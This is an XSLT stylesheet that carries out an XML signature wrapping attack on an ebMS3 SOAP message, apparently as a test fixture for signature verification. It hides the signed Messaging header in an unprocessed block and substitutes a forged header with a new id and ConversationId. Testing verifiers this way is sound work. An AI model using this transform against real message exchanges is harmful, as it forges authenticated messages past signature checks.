<?xml version="1.0"?>
<!-- The signed eb:Messaging moves into an unprocessed header block, keeping
     its wsu:Id (so the Reference still resolves and its digest matches);
     the eb:Messaging that would be processed is a forged one under
     another id. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:eb="http://docs.oasis-open.org/ebxml-msg/ebms/v3.0/ns/core/200704/"
    xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">
  <xsl:import href="identity.xsl"/>
  <xsl:template match="env:Header">
    <xsl:copy>
      <xsl:apply-templates select="@*|node()"/>
      <Hidden xmlns="urn:attack"><xsl:copy-of select="eb:Messaging"/></Hidden>
    </xsl:copy>
  </xsl:template>
  <xsl:template match="eb:Messaging/@wsu:Id">
    <xsl:attribute name="wsu:Id">forged-messaging</xsl:attribute>
  </xsl:template>
  <xsl:template match="eb:Messaging//eb:ConversationId/text()">forged</xsl:template>
</xsl:stylesheet>
